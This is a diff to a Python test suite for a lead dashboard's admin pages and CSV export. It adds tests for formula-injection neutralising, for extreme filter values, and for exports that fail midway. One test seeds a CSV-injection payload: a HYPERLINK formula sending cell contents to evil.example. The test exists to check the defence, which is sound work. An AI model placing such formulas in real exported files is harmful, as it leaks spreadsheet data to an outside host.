@@ -1,9 +1,11 @@
 """The dashboard through aiohttp_client on a real database."""
 
+import asyncio
 import csv
 import io
 import re
 
+import aiohttp
 import pytest
 
 from common.config import Settings
@@ -179,9 +181,23 @@ async def test_csv_export_of_the_filtered_set(dash, store):
     await log_in(dash)
     resp = await dash.get("/admin/leads.csv?campaign=a")
     assert resp.status == 200 and resp.headers["Content-Type"].startswith("text/csv")
-    table = list(csv.DictReader(io.StringIO(await resp.text())))
+    raw = await resp.read()
+    assert raw.startswith(b"\xef\xbb\xbf")  # a UTF-8 BOM: Excel reads Cyrillic right
+    table = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
     assert sorted(r["id"] for r in table) == sorted(ids[1::2])
-    assert {r["campaign_id"] for r in table} == {"a"} and table[0]["phone"] == "+79161234567"
+    # The phone stays text in Excel (a leading + would make it a formula or a number).
+    assert {r["campaign_id"] for r in table} == {"a"} and table[0]["phone"] == "'+79161234567"
+
+
+async def test_csv_export_neutralises_formulas(dash, store):
+    """OWASP "CSV Injection": a cell starting with = + - @ tab or CR runs in Excel."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
+    await seed(store, name=evil)
+    await log_in(dash)
+    raw = await (await dash.get("/admin/leads.csv")).read()
+    [row] = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+    assert row["name"] == "'" + evil
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
 
 
 async def test_leads_list_masks_contacts_and_filters(dash, store):
@@ -268,3 +284,49 @@ async def test_a_person_attaches_an_unmatched_payment_to_its_lead(dash, store):
     assert twice.status == 409 and "already attached" in await twice.text()
     [paid] = rows(store.path, "SELECT count(*) AS n FROM events WHERE type = 'PAYMENT_REGISTERED'")
     assert paid["n"] == 1  # counted once
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "date_to=9999-12-31",
+        "date_from=0001-01-01",
+        "offset=100000000000000000000",
+        "limit=100000000000000000000",
+        "offset=-1",
+    ],
+)
+async def test_extreme_filters_are_answered_not_500(dash, store, query):
+    await seed(store)
+    await log_in(dash)
+    for path in ("/admin/leads", "/admin/leads.csv"):
+        resp = await dash.get(f"{path}?{query}")
+        assert resp.status in (200, 422), (path, resp.status, await resp.text())
+    resp = await dash.get(
+        f"/api/v1/leads?{query}", headers={"Authorization": f"Bearer {API_TOKEN}"}
+    )
+    assert resp.status in (200, 422), await resp.text()
+    if resp.status == 422:
+        field = (await resp.json())["detail"][0]["field"]
+        assert field in ("date_to", "date_from", "limit", "offset")
+
+
+async def test_a_csv_export_that_fails_midway_is_cut_not_patched(dash, store):
+    """After the 200 and some rows, a failure must not append an error answer to the body
+    (a second HTTP response in the chunked stream): the download is cut, visibly."""
+
+    def many(tx):
+        for n in range(1001):
+            LeadService.create_lead(tx, {"campaign_id": "a", "phone": f"+7916{n:07d}"}, {})
+        # The oldest lead, read in the second batch, has a broken row (as a bad disk would).
+        tx.sql.run(
+            "UPDATE leads SET extra = '{', created_at = '2001-01-01T00:00:00.000000Z'"
+            " WHERE id = (SELECT id FROM leads ORDER BY created_at LIMIT 1)"
+        )
+
+    await store.write(many)
+    await log_in(dash)
+    resp = await dash.get("/admin/leads.csv")
+    assert resp.status == 200
+    with pytest.raises(aiohttp.ClientPayloadError):  # not a hang, not a complete-looking file
+        await asyncio.wait_for(resp.read(), 10)
